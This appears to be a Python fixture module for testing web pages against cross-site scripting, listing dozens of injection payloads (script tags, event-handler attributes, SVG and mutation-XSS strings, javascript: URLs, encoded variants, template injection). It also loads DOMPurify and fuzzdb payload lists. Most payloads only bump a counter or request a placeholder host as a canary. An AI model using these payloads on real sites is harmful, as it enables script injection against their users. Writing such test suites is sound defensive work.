"""Texts that want to become markup, in every place where a page may put a text."""

import json
from pathlib import Path

PAYLOADS = Path(__file__).parent / "data" / "payloads.json"
HIT = "window.raak=(window.raak||0)+1"
AWAY = "voorbeeld.example"
"""Nobody of ours: a request there means that a text was read as markup."""
SHORT = f'"\'><img src=x onerror="{HIT}">'
"""Leaves an attribute and a tag; short enough for every field."""
MARKUP = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</style></noscript></template></select><svg onload={HIT}>",
    f"<img src=//{AWAY}/1 onerror={HIT}>",
    f"<iframe srcdoc='<script>parent.raak=1</script>' src=//{AWAY}/2></iframe>",
    f"<link rel=stylesheet href=//{AWAY}/3><style>@import '//{AWAY}/4';</style>",
    f"<base href=//{AWAY}/><meta http-equiv=refresh content='0;url=//{AWAY}/5'>",
    f"<form action=//{AWAY}/6><button autofocus onfocus={HIT}>x</button></form>",
    f"<div hx-get=//{AWAY}/7 hx-trigger=load data-hx-get=//{AWAY}/8 hx-on::load='{HIT}'>x</div>",
    f"<input autofocus onfocus={HIT}><details open ontoggle={HIT}><video src=//{AWAY}/9 onerror={HIT}>",
    f"<svg><use href=//{AWAY}/10#x /><image href=//{AWAY}/11 /><animate onbegin={HIT} attributeName=x>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<xmp><p title='</xmp><svg/onload={HIT}>'>",
    f"javascript:{HIT}",
    f'http://{AWAY}/"onmouseover="{HIT}" style="position:fixed;inset:0',
    f"https://{AWAY}/<img/src=x/onerror={HIT}>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' autofocus onfocus='{HIT}' x='",
    f"` onerror=`{HIT}",
    f"&lt;img src=x onerror={HIT}&gt; &#60;img src=x onerror={HIT}&#62;",
    f"\\u003cimg src=x onerror={HIT}\\u003e \\x3cimg src=x onerror={HIT}\\x3e",
    f"%3Cimg%20src=x%20onerror={HIT}%3E",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"＜img src=x onerror={HIT}＞ ‹img src=x onerror={HIT}›",
    f"<<script>{HIT}//<</script> <scr<script>ipt>{HIT}</scr</script>ipt>",
    f"[x](javascript:{HIT}) ![x](//{AWAY}/12) <javascript:{HIT}>",
    f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}} #{{{HIT}}}",
    f"<x contenteditable onblur={HIT} style=background:url(//{AWAY}/13)>x</x>",
    f"<object data=//{AWAY}/14></object><embed src=//{AWAY}/15><audio src=//{AWAY}/16>",
    f"<script type=module src=//{AWAY}/17></script><script src=data:,{HIT}></script>",
)


def payloads() -> tuple[str, ...]:
    """Give every text, our own and those of others."""
    others: dict[str, list[str]] = json.loads(PAYLOADS.read_text())
    return tuple(dict.fromkeys((SHORT, *MARKUP, *others["dompurify"], *others["fuzzdb"])))
